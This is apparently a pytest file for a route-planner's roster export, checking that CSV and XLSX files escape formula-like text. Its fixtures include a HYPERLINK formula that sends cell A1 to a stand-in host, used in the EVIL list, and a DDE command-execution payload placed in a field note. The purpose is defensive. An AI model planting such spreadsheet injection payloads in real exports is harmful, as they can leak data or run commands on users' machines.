"""Tests of planner.io.export's roster: names that look like formulas stay text in the CSV and the XLSX."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from planner.check.validate import validate_plan
from planner.io.export import roster_rows, sheet_titles, spreadsheet_text, write_roster_csv, write_roster_xlsx
from tests.planner.solver_cases import ring, scenario, solve, team

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 811", "-Desa", "@SUM(A1)", "Desa Biasa"]


@pytest.fixture(scope="module")
def planned():
    sites = [s.model_copy(update={"name": EVIL[i % len(EVIL)]}) for i, s in enumerate(ring(10))]
    sc = scenario(sites, [team("T1", name="=1+1"), team("T2", name="Tim Dua")])
    plan = solve(sc, seconds=1.0)
    assert not validate_plan(sc, plan)
    assert plan.team_days and any(td.stops for td in plan.team_days)
    return sc, plan


def test_the_csv_neutralises_formula_text(planned, tmp_path: Path) -> None:
    sc, plan = planned
    path = write_roster_csv(sc, plan, tmp_path / "roster.csv")
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    header, body = rows[0], rows[1:]
    names = [r[header.index("nama_lokasi")] for r in body]
    assert len(body) == len(roster_rows(sc, plan))
    originals = [r[6] for r in roster_rows(sc, plan)]
    assert names == ["'" + n if n[0] in "=+-@" else n for n in originals]
    assert any(n.startswith("'") for n in names) and "Desa Biasa" in names
    teams = {r[header.index("nama_tim")] for r in body}
    assert teams <= {"'=1+1", "Tim Dua"}
    numbers = [r[header.index("perkiraan_perekaman")] for r in body]
    assert all(n.isdigit() for n in numbers)  # numbers are untouched


def test_the_xlsx_keeps_formula_text_as_strings(planned, tmp_path: Path) -> None:
    sc, plan = planned
    path = write_roster_xlsx(sc, plan, tmp_path / "roster.xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)  # no formula anywhere
    book = CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == ["T1", "T2"]
    written = []
    for name in book.sheet_names:
        grid = book.get_sheet_by_name(name).to_python()
        header = grid[0]
        written += [(r[header.index("nama_tim")], r[header.index("nama_lokasi")]) for r in grid[1:]]
    expected = [(r[1], r[6]) for r in roster_rows(sc, plan)]
    assert sorted(written) == sorted(expected)  # exactly the text, no ' added and nothing evaluated


def test_spreadsheet_text() -> None:
    assert [spreadsheet_text(v) for v in ("=A1", "+1", "-x", "@f", "\tx", "ok", 5, -3.5, None)] == [
        "'=A1", "'+1", "'-x", "'@f", "'\tx", "ok", 5, -3.5, None]


def test_sheet_titles_are_valid_and_unique() -> None:
    titles = sheet_titles(["T1", "t1", "a/b:c", "'quoted'", "x" * 40, "x" * 40, ""])
    assert titles[:4] == ["T1", "t1~2", "a_b_c", "quoted"]
    assert len(titles[4]) == 31 and len(titles[5]) == 31 and titles[4] != titles[5]
    assert len({t.lower() for t in titles}) == len(titles) and titles[6] == "Sheet"


def test_outcomes_csv_from_field_reports_neutralises_notes(tmp_path: Path) -> None:
    import datetime as dt

    from planner.io.outcomes import Outcomes, VisitMissed
    from planner.io.reports import write_outcomes_csv

    facts = Outcomes(outcomes=(
        VisitMissed(date=dt.date(2026, 11, 24), site_id="V-1", team_id="T1", reason="-banjir", note="=cmd|'/c calc'!A1"),
        VisitMissed(date=dt.date(2026, 11, 24), site_id="V-2", team_id="T1", reason="jalan putus", note="ok"),
    ))
    rows = list(csv.DictReader(write_outcomes_csv(facts, tmp_path / "o.csv").open(encoding="utf-8-sig")))
    assert [(r["site_id"], r["reason"], r["note"]) for r in rows] == [
        ("V-1", "'-banjir", "'=cmd|'/c calc'!A1"), ("V-2", "jalan putus", "ok")]


def test_the_xlsx_has_a_qr_code_per_team_day_link(planned, tmp_path: Path) -> None:
    from planner.io.links import template_links

    sc, plan = planned
    links = template_links("https://jemput.example/v1/plans/P/teams/{team}/days/{date}/app", plan)
    path = write_roster_xlsx(sc, plan, tmp_path / "roster.xlsx", links=links)
    book = CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == ["T1", "T2", "Tautan lapangan"]
    grid = book.get_sheet_by_name("Tautan lapangan").to_python()
    assert grid[0][:4] == ["tim", "nama_tim", "tanggal", "tautan"]
    assert sorted(r[3] for r in grid[1:]) == sorted(links.values())
    assert "=1+1" in [r[1] for r in grid[1:]]  # the team name stays text
    with zipfile.ZipFile(path) as z:
        images = [n for n in z.namelist() if n.startswith("xl/media/") and n.endswith(".png")]
        assert len(images) == len(links)  # one QR image per team-day
        assert all(z.read(n).startswith(b"\x89PNG") for n in images)
    plain = write_roster_xlsx(sc, plan, tmp_path / "plain.xlsx")
    assert CalamineWorkbook.from_path(str(plain)).sheet_names == ["T1", "T2"]
